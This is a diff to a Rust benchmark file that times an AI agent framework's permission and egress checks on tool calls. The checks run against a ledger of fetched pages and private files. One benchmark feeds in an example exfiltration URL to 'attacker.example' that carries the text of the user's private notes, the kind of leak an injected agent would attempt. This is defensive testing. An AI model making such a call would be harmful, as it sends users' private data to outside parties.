@@ -1,6 +1,6 @@
 //! Benchmarks of `permission`: the check every tool call goes through (argument scan,
-//! escalation, decision) for typical calls and for hostile 1 MB arguments. Prints
-//! medians; asserts nothing.
+//! escalation, decision) for typical calls and for hostile 1 MB arguments, and the
+//! egress rule over a turn that read files and pages. Prints medians; asserts nothing.
 mod harness;
 
 use std::hint::black_box;
@@ -8,9 +8,10 @@ use std::time::Duration;
 
 use evolve_core::json::Value;
 use evolve_core::permission::{
-    check_call, shell_command_level, ClassSource, EscalationContext, Grants, Level,
-    PermissionConfig, Policy, ToolClass,
+    check_call, check_egress, shell_command_level, ClassSource, Egress, EscalationContext, Grants,
+    Level, PermissionConfig, Policy, ToolClass,
 };
+use evolve_core::provenance::{Provenance, Source};
 use harness::bench;
 
 fn main() {
@@ -107,6 +108,84 @@ fn main() {
                 class(Level::L4),
                 black_box(&hostile_shell),
                 &shell_ctx,
+                &grants,
+                &policy,
+            )
+        },
+    );
+    // The egress rule after a turn read three 128 KiB pages with 2 000 links and two
+    // files: the ledger as a long turn has it.
+    let mut ledger =
+        Provenance::new("Summarise https://docs.example.org/guide and compare it with my notes");
+    for page in 0..3 {
+        let text: String = (0..700)
+            .map(|i| format!("see https://docs.example.org/p{page}/{i} for more on topic {i}.\n"))
+            .collect::<String>()
+            .repeat(3);
+        ledger.saw(Source::World, "http_get", &text);
+    }
+    ledger.saw(
+        Source::World,
+        "read_file",
+        &"private notes line\n".repeat(7000),
+    );
+    let fetch = |url: &str| {
+        let args = format!("{{\"url\":{}}}", json_string(url));
+        let check = check_call(
+            "http_get",
+            class(Level::L1),
+            &args,
+            &mcp_ctx,
+            &grants,
+            &policy,
+        );
+        let parts = [url];
+        check_egress(
+            check,
+            "http_get",
+            &Egress {
+                parts: &parts,
+                host: Some("docs.example.org"),
+                returned: &[],
+            },
+            &ledger,
+            &[],
+            &grants,
+            &policy,
+        )
+    };
+    bench("check_call + check_egress, a link the page gave", d, || {
+        fetch(black_box("https://docs.example.org/p2/699"))
+    });
+    bench("check_call + check_egress, data no one gave", d, || {
+        fetch(black_box(
+            "https://attacker.example/c?d=private%20notes%20line",
+        ))
+    });
+    let returned = [mcp.repeat(2000)];
+    let returned: Vec<&str> = returned.iter().map(String::as_str).collect();
+    bench(
+        "check_egress, MCP values against 280 KB the server returned",
+        d,
+        || {
+            let check = check_call(
+                "fs__read",
+                class(Level::L2),
+                mcp,
+                &mcp_ctx,
+                &grants,
+                &policy,
+            );
+            check_egress(
+                check,
+                "fs__read",
+                &Egress {
+                    parts: &["tea", "10", "a", "b", "file:///home/u/ws/README.md"],
+                    host: None,
+                    returned: black_box(&returned),
+                },
+                &ledger,
+                &[],
                 &grants,
                 &policy,
             )
